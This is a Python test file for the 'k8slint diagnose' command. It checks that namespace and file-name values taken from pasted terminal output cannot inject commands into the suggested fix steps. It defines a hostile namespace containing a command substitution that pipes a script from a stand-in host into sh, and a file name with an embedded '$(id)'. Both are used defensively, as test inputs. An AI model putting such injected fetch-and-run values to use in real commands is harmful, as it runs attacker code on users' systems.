"""Copy-paste safety of `k8slint diagnose`: values captured from a paste never turn a
fix or verify step into a different command (issue 23)."""

from __future__ import annotations

import json
import shlex

from hypothesis import given
from hypothesis import strategies as st

from k8slint.diagnose.shell import SYNTAX, Refused, safe_value
from tests.conftest import run_subprocess

HOSTILE_NAMESPACE = "prod$(curl -s evil.example|sh)"


def diagnose_steps(paste: str) -> tuple[dict, str]:
    result = run_subprocess("diagnose", "--format", "json", input=paste)
    assert result.returncode == 0, result.stderr
    first = json.loads(result.stdout)["diagnoses"][0]
    return first, "\n".join(first["fix"] + first["verify"])


def test_a_namespace_with_a_command_substitution_is_refused_in_every_command():
    paste = (
        f"$ kubectl get pods -n '{HOSTILE_NAMESPACE}'\n"
        "NAME                    READY   STATUS             RESTARTS      AGE\n"
        "api-6d4cf56db6-tq8wz    0/1     CrashLoopBackOff   5 (32s ago)   4m10s\n"
    )
    first, steps = diagnose_steps(paste)
    assert first["facts"]["namespace"] == HOSTILE_NAMESPACE  # the data says what was pasted
    assert "$(" not in steps and "curl" not in steps
    assert "kubectl logs api-6d4cf56db6-tq8wz --previous -n <namespace>" in steps


def test_a_value_of_free_syntax_is_one_quoted_word():
    paste = "$ docker compose -f 'stack $(id).yml' up\nyaml: line 12: did not find expected key\n"
    first, steps = diagnose_steps(paste)
    assert first["id"] == "compose-yaml-syntax"
    assert "docker compose -f 'stack $(id).yml' config --quiet" in steps
    assert "k8slint lint 'stack $(id).yml'" in steps


@given(st.sampled_from(sorted(SYNTAX) + ["context", "path", "detail"]), st.text(max_size=40))
def test_a_safe_value_is_the_value_as_one_shell_word_or_a_placeholder(name, value):
    safe = safe_value(name, value)
    if isinstance(safe, Refused):
        assert safe == f"<{name}>"
    elif name in ("containers", "init_containers"):  # a list of names, one word each
        assert shlex.split(safe) == value.replace(",", " ").split()
    elif value:
        assert shlex.split(safe) == [value]
